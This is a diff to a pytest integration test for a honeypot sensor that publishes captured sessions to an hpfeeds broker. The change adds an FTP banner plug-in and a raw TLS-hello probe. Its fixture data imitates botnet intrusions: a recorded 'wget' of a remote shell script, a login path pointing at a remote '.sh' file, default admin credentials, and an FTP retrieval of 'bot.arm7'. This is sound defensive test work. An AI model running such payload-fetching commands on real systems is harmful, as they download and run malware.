@@ -34,6 +34,9 @@ RECORDED_COMMANDS = ['uname -a', 'cd /tmp', 'wget http://203.0.113.9/x.sh -O x.s
 HTTP_PATH = '/login.cgi?next=http://198.51.100.7/a.sh'
 HTTP_BODY = 'username=admin&password=admin'
 HTTP_AGENT = 'mhn-kit-test/1.0'
+BANNER_LINES = ['USER anonymous', 'RETR ftp://203.0.113.7/bot.arm7']
+TLS_HELLO = b'\x16\x03\x01\x00\x05hello'
+SESSIONS = 4
 
 
 def load_module(name, path):
@@ -151,7 +154,7 @@ def start_broker(directory):
     return broker, port
 
 
-def start_sensor(directory, broker_port, telnet_port, http_port):
+def start_sensor(directory, broker_port, telnet_port, http_port, ftp_port):
     config = directory / 'sensor.toml'
     config.write_text('\n'.join([
         '[sensor]',
@@ -170,11 +173,16 @@ def start_sensor(directory, broker_port, telnet_port, http_port):
         'name = "telnet"', 'kind = "telnet"', 'port = %d' % telnet_port, 'table = "telnet"',
         '[[plugin]]',
         'name = "http"', 'kind = "http"', 'port = %d' % http_port, 'table = "http"',
+        '[[plugin]]',
+        'name = "ftp"', 'kind = "banner"', 'port = %d' % ftp_port, 'table = "ftp"',
+        '[plugin.options]',
+        'banner = "220 (vsFTPd 3.0.3)\\r\\n"',
+        'reply = "530 Please login with USER and PASS.\\r\\n"',
         '',
     ]))
     sensor = Process([recce7_bin(), 'sensor', '--config', str(config)], directory,
                      directory / 'sensor.log')
-    wait_for('recce7 sensor', lambda: sensor.text().count('listening on') >= 2, sensor)
+    wait_for('recce7 sensor', lambda: sensor.text().count('listening on') >= 3, sensor)
     return sensor
 
 
@@ -221,9 +229,31 @@ def http_session(port):
     return client_port
 
 
+def banner_session(port):
+    """Sends BANNER_LINES to the banner plug-in, a line at a time; returns the client's port."""
+    with socket.create_connection(('127.0.0.1', port), timeout=WAIT_SECS) as s:
+        client_port = s.getsockname()[1]
+        read_until(s, b'220 ')
+        for line in BANNER_LINES:
+            s.sendall(line.encode() + b'\r\n')
+            read_until(s, b'530 ')
+    return client_port
+
+
+def raw_session(port):
+    """Sends the start of a TLS hello to the HTTP port; returns the client's port."""
+    with socket.create_connection(('127.0.0.1', port), timeout=WAIT_SECS) as s:
+        client_port = s.getsockname()[1]
+        s.sendall(TLS_HELLO)
+        s.shutdown(socket.SHUT_WR)
+        while s.recv(4096):
+            pass
+    return client_port
+
+
 async def collect(broker_port, attack):
     """Subscribes with the hpfeeds3 client, makes sure the subscription is live (its own probe
-    comes back), runs `attack` in a thread, and reads until two sessions have ended."""
+    comes back), runs `attack` in a thread, and reads until SESSIONS sessions have ended."""
     from hpfeeds.asyncio import ClientSession
 
     client = ClientSession('127.0.0.1', broker_port, READER_IDENT, READER_SECRET)
@@ -250,7 +280,7 @@ async def collect(broker_port, attack):
         attack_result = await asyncio.get_running_loop().run_in_executor(None, attack)
         deadline = time.monotonic() + WAIT_SECS
         messages, ended = [], 0
-        while ended < 2:
+        while ended < SESSIONS:
             try:
                 message = await next_message()
             except (asyncio.TimeoutError, TimeoutError):
@@ -269,28 +299,28 @@ async def collect(broker_port, attack):
 
 @pytest.fixture(scope='session')
 def real_events(tmp_path_factory):
-    """A dict: `messages` [(ident, channel, payload bytes)] as the subscriber got them,
-    `telnet_port`, `http_port`, `telnet_client_port`, `http_client_port`."""
+    """A dict: `messages` [(ident, channel, payload bytes)] as the subscriber got them, the
+    sensor's `telnet_port`, `http_port`, `ftp_port`, and the clients' ports: `telnet_client_port`,
+    `http_client_port` (curl's login POST), `ftp_client_port`, `raw_client_port` (the TLS hello
+    on the HTTP port)."""
     directory = tmp_path_factory.mktemp('mhn-kit')
     broker, broker_port = start_broker(directory)
     sensor = None
     try:
-        telnet_port, http_port = free_ports(2)
+        telnet_port, http_port, ftp_port = free_ports(3)
 
         def attack():
             nonlocal sensor
-            sensor = start_sensor(directory, broker_port, telnet_port, http_port)
-            return telnet_session(telnet_port), http_session(http_port)
+            sensor = start_sensor(directory, broker_port, telnet_port, http_port, ftp_port)
+            return (telnet_session(telnet_port), http_session(http_port),
+                    banner_session(ftp_port), raw_session(http_port))
 
-        (telnet_client, http_client), messages = asyncio.run(collect(broker_port, attack))
+        clients, messages = asyncio.run(collect(broker_port, attack))
     finally:
         status = sensor.stop() if sensor else 0
         broker.stop()
     assert status == 0, sensor.text()
-    return {
-        'messages': messages,
-        'telnet_port': telnet_port,
-        'http_port': http_port,
-        'telnet_client_port': telnet_client,
-        'http_client_port': http_client,
-    }
+    return dict(zip(['telnet_client_port', 'http_client_port', 'ftp_client_port',
+                     'raw_client_port'], clients),
+                messages=messages, telnet_port=telnet_port, http_port=http_port,
+                ftp_port=ftp_port)
